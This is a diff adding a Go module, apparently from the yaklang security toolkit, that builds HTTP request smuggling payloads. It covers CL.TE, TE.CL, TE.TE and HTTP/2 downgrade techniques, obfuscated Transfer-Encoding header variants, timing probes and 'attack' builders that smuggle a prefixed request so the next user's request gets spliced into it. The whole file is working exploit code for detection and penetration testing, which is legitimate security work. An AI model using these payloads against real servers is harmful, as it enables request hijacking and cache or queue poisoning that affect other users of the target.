@@ -0,0 +1,139 @@
+package smuggle
+
+import (
+	"bytes"
+	"fmt"
+	"strconv"
+	"strings"
+
+	"github.com/yaklang/yaklang/common/utils/lowhttp"
+)
+
+type Technique string
+
+const (
+	TechniqueCLTE Technique = "CL.TE"
+	TechniqueTECL Technique = "TE.CL"
+	TechniqueTETE Technique = "TE.TE"
+	TechniqueH2CL Technique = "H2.CL"
+	TechniqueH2TE Technique = "H2.TE"
+)
+
+const (
+	MethodTiming       = "timing"
+	MethodDifferential = "differential"
+)
+
+// teVariant 为 Transfer-Encoding 头的一种写法，obfuscation 为空时为标准写法
+// 前后端只有一方能识别混淆后的头时，TE.TE 就退化为 CL.TE 或 TE.CL
+type teVariant struct {
+	obfuscation string
+	headers     []string
+}
+
+var standardTE = teVariant{headers: []string{"Transfer-Encoding: chunked"}}
+
+var obfuscatedTE = []teVariant{
+	{obfuscation: "space-before-colon", headers: []string{"Transfer-Encoding : chunked"}},
+	{obfuscation: "tab-separator", headers: []string{"Transfer-Encoding:\tchunked"}},
+	{obfuscation: "duplicate-header", headers: []string{"Transfer-Encoding: chunked", "Transfer-Encoding: x"}},
+	{obfuscation: "chunked-identity", headers: []string{"Transfer-Encoding: chunked, identity"}},
+	{obfuscation: "xchunked", headers: []string{"Transfer-Encoding: xchunked"}},
+	{obfuscation: "line-folding", headers: []string{"Transfer-Encoding:", " chunked"}},
+	{obfuscation: "lf-only", headers: []string{"X-Smuggle: x\nTransfer-Encoding: chunked"}},
+}
+
+// probeBuilder 基于目标请求构造走私探测报文，
+// 所有报文都使用 POST 方法，并移除原请求中的 body 以及长度相关的头
+type probeBuilder struct {
+	header string
+	host   string
+}
+
+func newProbeBuilder(packet []byte) *probeBuilder {
+	packet = lowhttp.ReplaceHTTPPacketMethod(packet, "POST")
+	for _, key := range []string{"Content-Length", "Transfer-Encoding", "Content-Type", "Connection"} {
+		packet = lowhttp.DeleteHTTPPacketHeader(packet, key)
+	}
+	packet = lowhttp.ReplaceHTTPPacketHeader(packet, "Content-Type", "application/x-www-form-urlencoded")
+	header, _ := lowhttp.SplitHTTPPacketFast(packet)
+	return &probeBuilder{
+		header: strings.TrimRight(header, "\r\n"),
+		host:   lowhttp.GetHTTPPacketHeader(packet, "Host"),
+	}
+}
+
+func (b *probeBuilder) build(headers []string, body string) []byte {
+	var buf bytes.Buffer
+	buf.WriteString(b.header)
+	buf.WriteString(lowhttp.CRLF)
+	for _, h := range headers {
+		buf.WriteString(h)
+		buf.WriteString(lowhttp.CRLF)
+	}
+	buf.WriteString(lowhttp.CRLF)
+	buf.WriteString(body)
+	return buf.Bytes()
+}
+
+func contentLength(i int) string {
+	return "Content-Length: " + strconv.Itoa(i)
+}
+
+// normal 为正常请求，用于获取基线响应以及作为差异探测中的"受害者"请求
+func (b *probeBuilder) normal(http2 bool) []byte {
+	if http2 {
+		return b.build([]string{contentLength(3)}, "x=1")
+	}
+	return b.build([]string{contentLength(3), "Connection: close"}, "x=1")
+}
+
+// clteTiming 前端按 Content-Length 只转发 "1\r\nA"，以 Transfer-Encoding 解析的后端会等待后续数据
+func (b *probeBuilder) clteTiming(te teVariant) []byte {
+	return b.build(append([]string{contentLength(4), "Connection: close"}, te.headers...), "1\r\nA\r\nX")
+}
+
+// teclTiming 前端按 chunked 只转发 "0\r\n\r\n"，以 Content-Length 解析的后端会等待剩余的 1 字节
+func (b *probeBuilder) teclTiming(te teVariant) []byte {
+	return b.build(append([]string{contentLength(6), "Connection: close"}, te.headers...), "0\r\n\r\nX")
+}
+
+// smuggledPrefix 为走私到后端的请求前缀，下一个请求的请求行会被拼接到 X-Ignore 头中
+func smuggledPrefix(path string) string {
+	return fmt.Sprintf("GET %s HTTP/1.1\r\nX-Ignore: X", path)
+}
+
+func (b *probeBuilder) clteAttack(te teVariant, path string) []byte {
+	body := "0\r\n\r\n" + smuggledPrefix(path)
+	return b.build(append([]string{contentLength(len(body)), "Connection: close"}, te.headers...), body)
+}
+
+// teclAttack 后端只读取 chunk 长度行，chunk 中的请求会被当作下一个请求，
+// 其 Content-Length 大于剩余数据，会吞掉下一个请求的开头
+func (b *probeBuilder) teclAttack(te teVariant, path string) []byte {
+	smuggled := fmt.Sprintf(
+		"GET %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1",
+		path, b.host,
+	)
+	chunkSize := strconv.FormatInt(int64(len(smuggled)), 16)
+	body := chunkSize + "\r\n" + smuggled + "\r\n0\r\n\r\n"
+	return b.build(append([]string{contentLength(len(chunkSize) + 2), "Connection: close"}, te.headers...), body)
+}
+
+// h2clTiming HTTP/2 前端未校验 content-length 与 DATA 长度是否一致，降级后后端会等待剩余数据
+func (b *probeBuilder) h2clTiming() []byte {
+	return b.build([]string{contentLength(10)}, "x=1")
+}
+
+func (b *probeBuilder) h2clAttack(path string) []byte {
+	return b.build([]string{contentLength(0)}, smuggledPrefix(path))
+}
+
+// h2teTiming HTTP/2 前端保留了 transfer-encoding，降级后后端按 chunked 解析并等待下一个 chunk
+func (b *probeBuilder) h2teTiming() []byte {
+	return b.build([]string{"Transfer-Encoding: chunked"}, "1\r\nA\r\n")
+}
+
+func (b *probeBuilder) h2teAttack(path string) []byte {
+	return b.build([]string{"Transfer-Encoding: chunked"}, "0\r\n\r\n"+smuggledPrefix(path))
+}